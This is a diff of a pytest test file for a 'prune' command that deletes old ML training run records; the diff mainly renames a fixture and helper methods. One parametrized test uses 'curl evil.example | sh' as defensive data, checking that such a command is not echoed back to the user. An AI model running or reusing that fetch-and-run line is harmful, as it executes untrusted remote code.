@@ -20,13 +20,13 @@ def prune(robotrain):
 
 
 @pytest.fixture
-def sent(scripted):
+def record_old_run(scripted):
     """Record a run that ended so many days ago, with a checkpoint, and with sources of its plan."""
 
     def make(run, *, days, state="succeeded", sources=(), **fields):
         ended = {} if state == "running" else {"ended": time.time() - days * DAY}
         made = scripted.run(run, state=state, age=days * DAY + 60, **ended, **fields)
-        made.left("checkpoint", uri=str(made.folder / "left/checkpoint"))
+        made.add_output("checkpoint", uri=str(made.folder / "left/checkpoint"))
         plan = records.get_run_folder(run) / "plan"
         plan.mkdir()
         job = {"sources": [{"role": "policy", "kind": "local_path", "uri": str(uri)} for uri in sources]}
@@ -36,9 +36,9 @@ def sent(scripted):
     return make
 
 
-def test_what_would_go_is_shown_with_its_size_and_stays_until_it_is_confirmed(prune, sent):
-    sent("old-1", days=40)
-    sent("new-1", days=2)
+def test_what_would_go_is_shown_with_its_size_and_stays_until_it_is_confirmed(prune, record_old_run):
+    record_old_run("old-1", days=40)
+    record_old_run("new-1", days=2)
     answer = prune("--older-than", "30d")
     assert answer.exit_code == 0
     titles, row = (line.split() for line in answer.stdout.splitlines())
@@ -49,8 +49,8 @@ def test_what_would_go_is_shown_with_its_size_and_stays_until_it_is_confirmed(pr
     assert records.list_runs() == ["new-1", "old-1"]
 
 
-def test_what_is_confirmed_goes(prune, sent):
-    old, new = sent("old-1", days=40), sent("new-1", days=2)
+def test_what_is_confirmed_goes(prune, record_old_run):
+    old, new = record_old_run("old-1", days=40), record_old_run("new-1", days=2)
     answer = prune("--older-than", "30d", "--yes")
     assert answer.exit_code == 0
     assert answer.stdout.splitlines()[-1] == "1 run removed, 5 bytes freed"
@@ -78,27 +78,27 @@ def test_ctrl_c_at_the_question_leaves_the_line(monkeypatch, capsys):
     assert capsys.readouterr().err == "remove 1 run? [y/N] \n"
 
 
-def test_the_newest_stay(prune, sent):
+def test_the_newest_stay(prune, record_old_run):
     for number in range(1, 6):
-        sent(f"run-{number}", days=10 - number)
+        record_old_run(f"run-{number}", days=10 - number)
     prune("--keep", "2", "--yes")
     assert records.list_runs() == ["run-5", "run-4"]
 
 
-def test_only_those_in_a_state_or_on_a_platform_and_of_these_the_newest_stay(prune, sent):
+def test_only_those_in_a_state_or_on_a_platform_and_of_these_the_newest_stay(prune, record_old_run):
     for number in range(1, 4):
-        sent(f"bad-{number}", days=10 - number, state="failed")
-        sent(f"good-{number}", days=10 - number)
-    sent("far-1", days=99, state="failed", platform="other")
+        record_old_run(f"bad-{number}", days=10 - number, state="failed")
+        record_old_run(f"good-{number}", days=10 - number)
+    record_old_run("far-1", days=99, state="failed", platform="other")
     prune("--keep", "1", "--state", "failed", "--platform", "scripted", "--yes")
     assert sorted(records.list_runs()) == ["bad-3", "far-1", "good-1", "good-2", "good-3"]
 
 
-def test_runs_that_go_on_broken_records_and_cut_off_submits_stay_and_it_is_said_why(prune, sent):
-    sent("busy-1", days=40, state="running")
-    sent("broken-1", days=40)
+def test_runs_that_go_on_broken_records_and_cut_off_submits_stay_and_it_is_said_why(prune, record_old_run):
+    record_old_run("busy-1", days=40, state="running")
+    record_old_run("broken-1", days=40)
     (records.get_run_folder("broken-1") / "record.json").write_text("{")
-    sent("cut-1", days=40)
+    record_old_run("cut-1", days=40)
     path = records.get_run_folder("cut-1") / "record.json"
     path.write_text(json.dumps(json.loads(path.read_text()) | {"phase": "sending"}))
     answer = prune("--older-than", "30d", "--yes")
@@ -110,9 +110,9 @@ def test_runs_that_go_on_broken_records_and_cut_off_submits_stay_and_it_is_said_
     assert len(records.list_runs()) == 3
 
 
-def test_a_run_that_a_newer_one_was_started_from_stays(prune, sent):
-    base = sent("base-1", days=40)
-    sent("tuned-1", days=2, sources=(base.folder / "left/checkpoint",))
+def test_a_run_that_a_newer_one_was_started_from_stays(prune, record_old_run):
+    base = record_old_run("base-1", days=40)
+    record_old_run("tuned-1", days=2, sources=(base.folder / "left/checkpoint",))
     assert "base-1 stays: tuned-1 was started from it" in prune("--older-than", "30d", "--yes").stderr
     assert base.folder.exists()
     plan = records.get_run_folder("tuned-1") / "plan/robotrain-plan.json"
@@ -122,9 +122,9 @@ def test_a_run_that_a_newer_one_was_started_from_stays(prune, sent):
     assert records.list_runs() == []
 
 
-def test_of_a_platform_that_keeps_what_runs_left_only_the_record_goes_and_that_is_said(prune, sent):
-    far = sent("far-1", days=40)
-    far.does("keeps")
+def test_of_a_platform_that_keeps_what_runs_left_only_the_record_goes_and_that_is_said(prune, record_old_run):
+    far = record_old_run("far-1", days=40)
+    far.set_flag("keeps")
     answer = prune("--older-than", "30d", "--yes")
     assert answer.stdout.splitlines()[1].endswith("-")
     assert "the platform keeps their outputs" in answer.stderr
@@ -132,8 +132,8 @@ def test_of_a_platform_that_keeps_what_runs_left_only_the_record_goes_and_that_i
     assert records.list_runs() == []
 
 
-def test_a_run_that_its_platform_no_longer_knows_goes(prune, sent):
-    sent("old-1", days=40).does("gone")
+def test_a_run_that_its_platform_no_longer_knows_goes(prune, record_old_run):
+    record_old_run("old-1", days=40).set_flag("gone")
     prune("--older-than", "30d", "--yes")
     assert records.list_runs() == []
 
@@ -143,9 +143,9 @@ def test_a_run_whose_platform_is_not_installed_any_more_stays(prune, tmp_path):
     assert "lost-1 stays: no platform 'nibiru' is installed" in prune("--older-than", "30d", "--yes").stderr
 
 
-def test_one_that_cannot_be_removed_is_named_and_the_others_go(prune, sent):
-    sent("stuck-1", days=50).does("stuck")
-    sent("old-1", days=40)
+def test_one_that_cannot_be_removed_is_named_and_the_others_go(prune, record_old_run):
+    record_old_run("stuck-1", days=50).set_flag("stuck")
+    record_old_run("old-1", days=40)
     answer = prune("--older-than", "30d", "--yes")
     assert answer.exit_code == 1
     assert "stuck-1 was not removed: PermissionError" in answer.stderr
@@ -153,9 +153,9 @@ def test_one_that_cannot_be_removed_is_named_and_the_others_go(prune, sent):
 
 
 @pytest.mark.parametrize("named", ["pick", "pic"])
-def test_one_run_is_removed_by_its_name_or_itself(prune, sent, named):
-    sent("pick-1", days=1, called="pick")
-    sent("place-1", days=40, called="place")
+def test_one_run_is_removed_by_its_name_or_itself(prune, record_old_run, named):
+    record_old_run("pick-1", days=1, called="pick")
+    record_old_run("place-1", days=40, called="place")
     assert prune(named, "--yes").stdout.splitlines()[-1] == "1 run removed, 5 bytes freed"
     assert records.list_runs() == ["place-1"]
 
@@ -171,12 +171,12 @@ def test_one_run_is_removed_by_its_name_or_itself(prune, sent, named):
         (["busy"], 1, ["busy-1 stays: it is running"]),
     ],
 )
-def test_a_named_run_that_is_not_removed(prune, sent, words, exit_code, said):
-    sent("a-1", days=3, called="twin")
-    sent("b-1", days=2, called="twin")
-    base = sent("base-1", days=4)
-    sent("tuned-1", days=1, sources=(base.folder / "left/checkpoint",))
-    sent("busy-1", days=1, state="running")
+def test_a_named_run_that_is_not_removed(prune, record_old_run, words, exit_code, said):
+    record_old_run("a-1", days=3, called="twin")
+    record_old_run("b-1", days=2, called="twin")
+    base = record_old_run("base-1", days=4)
+    record_old_run("tuned-1", days=1, sources=(base.folder / "left/checkpoint",))
+    record_old_run("busy-1", days=1, state="running")
     answer = prune(*words, "--yes")
     assert answer.exit_code == exit_code
     for fact in said:
@@ -184,8 +184,8 @@ def test_a_named_run_that_is_not_removed(prune, sent, words, exit_code, said):
     assert len(records.list_runs()) == 5
 
 
-def test_the_beginning_of_a_name_removes_nothing(prune, sent):
-    sent("train-1", days=1, called="cups")
+def test_the_beginning_of_a_name_removes_nothing(prune, record_old_run):
+    record_old_run("train-1", days=1, called="cups")
     answer = prune("cu", "--yes")
     assert answer.exit_code == 2
     assert "runs --prune train-1" in answer.stderr
@@ -194,8 +194,8 @@ def test_the_beginning_of_a_name_removes_nothing(prune, sent):
 
 
 @pytest.mark.parametrize("words", [("--older-than", "30d"), ("old",)])
-def test_a_dry_run_removes_nothing_although_yes_was_said(prune, sent, words):
-    sent("old-1", days=40)
+def test_a_dry_run_removes_nothing_although_yes_was_said(prune, record_old_run, words):
+    record_old_run("old-1", days=40)
     answer = prune(*words, "--yes", "--dry-run")
     assert answer.exit_code == 0
     assert "old-1" in answer.stdout
@@ -207,7 +207,7 @@ def test_a_dry_run_removes_nothing_although_yes_was_said(prune, sent, words):
     ("program", "is_said"), [("uvx mlflow@3.15.0", True), ("curl evil.example | sh; mlflow@3", False)]
 )
 def test_what_the_tracking_database_keeps_of_a_removed_run_is_said_with_the_lines_that_remove_it(
-    prune, sent, scripted, tmp_path, program, is_said
+    prune, record_old_run, scripted, tmp_path, program, is_said
 ):
     uri, run_id = f"sqlite:///{tmp_path / 'tracked' / 'mlflow.db'}", "0123456789abcdef" * 2
     artifacts = tmp_path / "tracked" / "artifacts" / "pick" / run_id
@@ -216,9 +216,9 @@ def test_what_the_tracking_database_keeps_of_a_removed_run_is_said_with_the_line
     (artifacts / "model").write_bytes(os.urandom(2_000_000))
     fields = {"event": "tracking", "uri": uri, "experiment_id": "1", "run_id": run_id}
     started = f"{program} ui --backend-store-uri {uri}"
-    scripted.platform("hermes", features='{"runs_here": YES}')
+    scripted.platform("far", features='{"runs_here": YES}')
     for run in ("old-1", "older-1"):
-        made = sent(run, days=40, platform="hermes")
+        made = record_old_run(run, days=40, platform="far")
         made.log(f"::robotrain:: {json.dumps(fields | {'time': 1.0, 'ui': started})}")
     answer = prune("old-1", "--yes", "--json")
     assert [(one["run"], one["run_id"]) for one in answer.json["tracked"]] == [("old-1", run_id)] * is_said
@@ -248,8 +248,8 @@ def test_words_of_other_tools_lead_to_the_line_with_the_run(robotrain, typed, of
         assert f"robotrain {line}" in answer.stderr
 
 
-def test_prune_alone_says_what_it_needs_to_know(prune, sent):
-    sent("old-1", days=40)
+def test_prune_alone_says_what_it_needs_to_know(prune, record_old_run):
+    record_old_run("old-1", days=40)
     answer = prune("--yes")
     assert answer.exit_code == 2
     assert "--prune needs --older-than or --keep" in answer.stderr
@@ -258,9 +258,9 @@ def test_prune_alone_says_what_it_needs_to_know(prune, sent):
     assert records.list_runs() == ["old-1"]
 
 
-def test_the_json_is_an_api(prune, sent):
-    sent("old-1", days=40)
-    sent("busy-1", days=40, state="running")
+def test_the_json_is_an_api(prune, record_old_run):
+    record_old_run("old-1", days=40)
+    record_old_run("busy-1", days=40, state="running")
     shown = prune("--older-than", "30d", "--json").json
     (run,) = shown["runs"]
     assert time.time() - run.pop("ended") > 39 * DAY
